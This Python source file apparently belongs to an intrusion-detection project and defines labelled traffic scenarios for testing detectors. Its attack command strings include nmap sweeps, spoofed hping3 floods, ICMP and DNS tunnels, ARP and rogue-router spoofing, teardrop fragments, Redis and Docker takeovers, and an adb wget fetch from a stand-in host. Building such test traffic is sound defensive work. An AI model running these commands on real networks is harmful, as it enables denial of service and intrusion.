"""Attacks, and what looks like them, that are recorded anew by whoever wants them.

``python -m datasets.recipe.traffic OUT --only NAME`` makes one. They don't ship in
``datasets/samples``: no cluster and no network was trained on them, so that what finds them is the
detectors.
"""

from __future__ import annotations

from datasets.recipe.misuse_traffic import MISUSE
from datasets.recipe.scenario_traffic import (
    ATTACKER,
    CLIENT,
    FLOOD_PACKETS,
    LIVING,
    NORMAL,
    SERVER,
    UNUSED,
    Scenario,
)


def _ping(name: str, label: str, options: str, network: str) -> Scenario:
    command = f"nmap -n --max-retries 1 -sn --disable-arp-ping {options} {network}"
    return Scenario(name, label, ATTACKER, network, "attacker", command)


def _scattered(name: str, label: str, options: str) -> Scenario:
    command = (
        f"hping3 -q -c {FLOOD_PACKETS} -i u500 {options} --rand-source --rand-dest {UNUSED}.x "
        "-I eth0"
    )
    return Scenario(name, label, "*", f"{UNUSED}.0/24", "attacker", command)


def _segment(name: str, label: str, command: str, attacker: str = "*") -> Scenario:
    """What is said to all of the segment."""
    attacker = "" if label == NORMAL else attacker
    return Scenario(name, label, attacker, "", "attacker", command, "hub", neighbours=True)


def _service(name: str, label: str, command: str) -> Scenario:
    """Open services of the server are told something."""
    attacker, namespace = ("", "client") if label == NORMAL else (ATTACKER, "attacker")
    helper = ("server", f"SERVICES serve {SERVER}")
    return Scenario(name, label, attacker, SERVER, namespace, command, helpers=(helper,))


def _site(name: str, label: str, *commands: str, user: bool = False) -> Scenario:
    """A site with sessions, at which ``commands`` run at once; ``user``: somebody is there."""
    attacker = "" if label == NORMAL else ATTACKER
    namespace = "attacker" if attacker else "client"
    users = (("client", f"SITE browse {SERVER} --wait 1.5"),) if user else ()
    helper = ("server", f"SITE serve {SERVER}")
    command = " && ".join(commands)
    return Scenario(name, label, attacker, SERVER, namespace, command, "server", (helper,), users)


_CONTAINERS = f"http://{SERVER}:2375/v1.24/containers"
_ROUTER = "SPOOF router fe80::1"
_FETCH = "curl -s --retry 9 --retry-connrefused --retry-delay 1 http://127.0.0.1:8000/[1-20]"


UNTRAINED: tuple[Scenario, ...] = (
    _ping("ack-ping-sweep", "TcpSweep", "-PA80", f"{UNUSED}.0/25"),
    _ping("ack-ping-sweep-living", "TcpSweep", "-PA80", f"{LIVING}.0/25"),
    _ping("udp-ping-sweep", "UdpSweep", "-PU40125", f"{UNUSED}.0/26"),
    _ping("udp-ping-sweep-living", "UdpSweep", "-PU40125", f"{LIVING}.0/26"),
    Scenario(
        "syn-ack-reflection",
        "AmplificationFlood",
        "*",
        CLIENT,
        "attacker",
        f"hping3 -q -c {FLOOD_PACKETS} -i u500 -S -a {CLIENT} -p 80 --rand-dest {LIVING}.x -I eth0",
        capture="client",
    ),
    _scattered("syn-flood-scattered", "SynFlood", "-S -p 80"),
    _scattered("ack-flood-scattered", "AckFlood", "-A -p 80"),
    _scattered("udp-flood-scattered", "UdpFlood", "-2 -p 7777 -d 64"),
    _scattered("icmp-flood-scattered", "IcmpFlood", "-1 -d 64"),
    # A honeypot that was taken over, and its controller.
    Scenario(
        "beacon",
        "OutgoingBeacon",
        SERVER,
        ATTACKER,
        "server",
        f"nping -q --tcp-connect --delay 1s -c 20 -p 80 {ATTACKER}",
        helpers=(("attacker", "PEERS serve 0.0.0.0"),),
    ),
    Scenario(
        "icmp-tunnel",
        "Tunnelling",
        ATTACKER,
        SERVER,
        "attacker",
        f"timeout 6 ptunnel -p {SERVER} -lp 8000 -da 127.0.0.1 -dp 80 && {_FETCH}",
        daemons=(("server", "ptunnel"),),
    ),
    Scenario(
        "dns-tunnel",
        "Tunnelling",
        ATTACKER,
        CLIENT,
        "attacker",
        f"timeout 12 dns2tcpc -z t.example.org -r web -l 8000 {CLIENT} && {_FETCH}",
        capture="client",
        daemons=(("client", "DNS2TCPD"),),
    ),
    Scenario(
        "benign-ping-large", NORMAL, "", SERVER, "client", f"ping -q -c 60 -i 0.1 -s 1400 {SERVER}"
    ),
    # Nobody heard the hosts whose addresses these are.
    _segment(
        "arp-push",
        "ArpSpoofing",
        f"SPOOF arp-spoof {ATTACKER} 192.0.2.31 192.0.2.32 --stand-ins",
    ),
    _segment("dhcp-starvation", "DhcpStarvation", "SPOOF dhcp 250"),
    _segment("benign-leases", NORMAL, f"SPOOF dhcp 40 --pause 0.05 --server {SERVER}"),
    _segment("router-flood", "NeighbourFlood", "timeout 3 atk6-flood_router6 eth0"),
    _segment("neighbour-flood", "NeighbourFlood", "timeout 3 atk6-flood_advertise6 eth0"),
    # The segment's router, and another that speaks in its name and ends its service.
    _segment(
        "router-impostor",
        "RogueRouter",
        f"{_ROUTER} && SPOOF router fe80::1 --wait 4 --lifetime 0 --hardware 02:00:00:00:00:66",
    ),
    # And one that wants to be preferred, as atk6-fake_router6 does.
    _segment(
        "rogue-router",
        "RogueRouter",
        f"{_ROUTER} && SPOOF router fe80::66 --wait 4 --preference 1 --rounds 6",
        "fe80::66",
    ),
    # Two routers, the second a standby.
    _segment("benign-routers", NORMAL, f"{_ROUTER} && SPOOF router fe80::2 --wait 4"),
    _service(
        "redis-takeover",
        "ConfigurationAbuse",
        f"redis-cli -h {SERVER} config set dir /var/spool/cron && "
        f"redis-cli -h {SERVER} config set dbfilename authorized_keys",
    ),
    _service(
        "docker-takeover",
        "ConfigurationAbuse",
        f"curl -s -d CONTAINER {_CONTAINERS}/create",
    ),
    _service(
        "adb-takeover",
        "ConfigurationAbuse",
        f"SERVICES adb {SERVER} cd+/data/local/tmp;wget+http://192.0.2.66/x",
    ),
    # What their owners do.
    _service(
        "benign-services",
        NORMAL,
        f"redis-cli -h {SERVER} set visits 7 && redis-cli -h {SERVER} config get dir && "
        f"redis-cli -h {SERVER} config set maxmemory 64mb && curl -s {_CONTAINERS}/json && "
        f"curl -s -d {{}} {_CONTAINERS}/create && SERVICES adb {SERVER} ls",
    ),
    Scenario(
        "teardrop",
        "FragmentAttack",
        "*",
        SERVER,
        "attacker",
        f"SPOOF teardrop {ATTACKER} {SERVER}",
    ),
    Scenario(
        "teardrop-ipv6",
        "FragmentAttack",
        "*",
        "2001:db8::50",
        "attacker",
        "SPOOF teardrop6 2001:db8::42 2001:db8::50",
    ),
    Scenario(
        "benign-ping-huge",
        NORMAL,
        "",
        SERVER,
        "client",
        f"ping -q -c 20 -i 0.1 -s 9000 {SERVER}",
    ),
    Scenario(
        "benign-ping-huge-ipv6",
        NORMAL,
        "",
        "2001:db8::50",
        "attacker",
        "ping -q -c 20 -i 0.1 -s 9000 2001:db8::50",
    ),
    # Somebody goes on with the session of a user whose cookie he read.
    _site("session-hijack", "SessionHijacking", f"SITE steal {SERVER} --wait 2.5", user=True),
    # What a web shell passes on, in its answers too.
    _site("http-tunnel", "Tunnelling", f"SITE tunnel {SERVER}"),
    _site("http-tunnel-coded", "Tunnelling", f"SITE tunnel {SERVER} --coded"),
    # An open proxy is looked for, and used.
    _site(
        "honeypot-proxy",
        "Tunnelling",
        f"curl -s -p -x http://{SERVER}:8080 http://mail.example.org:25/",
        f"curl -s -x http://{SERVER}:8080 http://check.example.org/ip",
    ),
    # A telephone that changes its address, a user's second program, measurements, uploads.
    _site(
        "benign-sessions",
        NORMAL,
        f"SITE browse {SERVER} --move 192.0.2.11",
        f"SITE browse {SERVER} --second curl/8.5",
        f"SITE measure {SERVER}",
        f"curl -s -F file=@/bin/true http://{SERVER}:8080/upload",
    ),
    # A monitor: the same ten hosts again and again, one of them dead.
    Scenario(
        "benign-monitor",
        NORMAL,
        "",
        f"{LIVING}.0/24",
        "client",
        " && ".join(
            f"hping3 -q -1 -c 12 -i 1 {where}"
            for where in (*(f"{LIVING}.{last}" for last in range(1, 10)), f"{UNUSED}.9")
        ),
    ),
    *MISUSE,
)
